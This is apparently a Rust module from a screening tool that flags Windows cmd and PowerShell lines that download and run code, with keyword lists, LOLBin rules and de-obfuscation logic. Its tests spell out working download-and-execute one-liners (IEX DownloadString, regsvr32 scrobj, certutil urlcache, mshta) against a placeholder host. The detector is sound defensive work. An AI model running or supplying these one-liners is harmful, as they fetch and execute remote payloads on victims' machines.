//! Command lines of Windows: `cmd`, PowerShell and the programs that are there to run what others wrote.

/// What fetches something.
const FETCHES: &[&str] = &[
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "invoke-webrequest",
    "iwr ",
    "iwr(",
    "invoke-restmethod",
    "irm ",
    "irm(",
    "start-bitstransfer",
    "openread(",
    "msxml2.xmlhttp",
    "winhttp.winhttprequest",
    "urldownloadtofile",
];
/// What runs something.
const RUNS: &[&str] = &[
    "iex(",
    "iex ",
    "|iex",
    "| iex",
    "iex;",
    "invoke-expression",
    "start-process",
    "scriptblock]::create",
    "assembly]::load",
    "invoke-command",
    "invoke-item",
    "saps ",
    ".exe &",
    "& start ",
    "& $",
    "&(",
    "; .\\",
    ";.\\",
    "regsvr32",
    "rundll32",
    "invoke-wmimethod",
    "invokescript(",
    "newscriptblock(",
];

/// Whether a command line fetches something by what PowerShell has for that.
pub(super) fn fetches(text: &str) -> bool {
    let text = plain(text);
    FETCHES.iter().chain(&["curl ", "wget "]).any(|word| text.contains(word)) && text.contains("://")
}

/// Whether a command line fetches something and runs it, or asks a program to run what lies elsewhere.
pub(super) fn fetches_and_runs(text: &str) -> bool {
    let text = plain(text);
    let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
    let web = has(&["http://", "https://"]);
    let share = text.contains(" \\\\") && !text.contains(" \\\\.\\") || text.split_whitespace().any(is_share);
    let script = has(&["javascript:", "vbscript:"]);
    has(FETCHES) && has(RUNS)
        || text.ends_with("| iex")
        || text.ends_with("|iex")
        || has(&["mshta"]) && (web || script)
        || has(&["rundll32"]) && (script || share || web)
        || has(&["regsvr32"]) && web
        || has(&["certutil"]) && text.contains("urlcache") && runs_after(&text)
        || has(&["bitsadmin"]) && text.contains("/transfer") && runs_after(&text)
        || has(&["msiexec"]) && web
        || has(&["wmic"]) && text.contains("/format:") && web
        || has(&["wmic"]) && text.contains("process call create") && has(&["powershell", "cmd"])
        || fetches_by_cmd(&text)
        || has(&["cscript", "wscript"]) && (share || web)
        || has(&["installutil", "msbuild", "regasm", "regsvcs"]) && (web || share)
        || has(&["powershell", "pwsh"]) && (web || has(&["frombase64string"])) && has(RUNS)
}

/// Whether `cmd` fetches a program and starts it: `curl … -o x.exe & start x.exe`.
fn fetches_by_cmd(text: &str) -> bool {
    let programs = ["curl", "wget", "certutil", "bitsadmin"];
    let fetches = programs.iter().chain(FETCHES).any(|program| text.contains(program));
    let Some((before, after)) = text.split_once(['&', ';']).filter(|(before, _)| fetches && before.contains("://"))
    else {
        return false;
    };
    let ends = [".exe", ".bat", ".cmd", ".ps1", ".vbs", ".hta", ".msi", ".scr", ".dll"];
    let mut words = before.split(|letter: char| letter.is_whitespace() || "\"'".contains(letter));
    words.any(|word| {
        let name = word.rsplit(['\\', '/']).next().unwrap_or_default();
        ends.iter().any(|end| name.ends_with(end)) && name.len() > 4 && !word.contains("://") && after.contains(name)
    })
}

/// Whether a word is a share of another machine, of which a shell took a backslash away.
fn is_share(word: &str) -> bool {
    word.strip_prefix('\\').and_then(|rest| rest.split_once('\\')).is_some_and(|(host, path)| {
        let dotted = host.contains('.') && !host.starts_with('.');
        dotted && !path.is_empty() && host.chars().all(|letter| letter.is_alphanumeric() || ".-@".contains(letter))
    })
}

/// Whether another command stands behind the one that fetches.
fn runs_after(text: &str) -> bool {
    text.contains(" & ") || text.contains("&&") || text.contains(" ; ") || text.contains("start ")
}

/// The text in lower case, without what breaks words up: carets, backticks and `'+'`.
fn plain(text: &str) -> String {
    let mut plain = text.to_lowercase();
    if plain.contains(['^', '`']) {
        plain = plain.replace(['^', '`'], "");
    }
    for joined in ["'+'", "\"+\"", "' + '", "\" + \""].iter().filter(|_| text.contains('+')) {
        plain = plain.replace(joined, "");
    }
    plain
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_lines_that_run_what_they_fetch() {
        for text in [
            "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
            "powershell iwr http://x.example | iex",
            "(New-Object Net.WebClient).DownloadFile('http://x.example/a','C:\\a.exe') & start & C:\\a.exe",
            "powershell $x='IE'+'X'; & $x (irm http://x.example)",
            "mshta http://x.example/a.hta",
            "regsvr32 /s /i:http://x.example/a scrobj.dll",
            "rundll32 \\\\x.example\\a\\b.dll,Run",
            "certutil -urlcache -f http://x.example/a a.exe & a.exe",
            "msiexec /q /i https://x.example/a.msi",
        ] {
            assert!(fetches_and_runs(text), "{text}");
        }
        for text in [
            "powershell Invoke-WebRequest https://x.example/a.zip -OutFile a.zip; Expand-Archive a.zip",
            "certutil -hashfile a.bin sha256",
            "powershell Get-ChildItem",
            "rundll32 user32.dll,LockWorkStation",
        ] {
            assert!(!fetches_and_runs(text), "{text}");
        }
    }
}
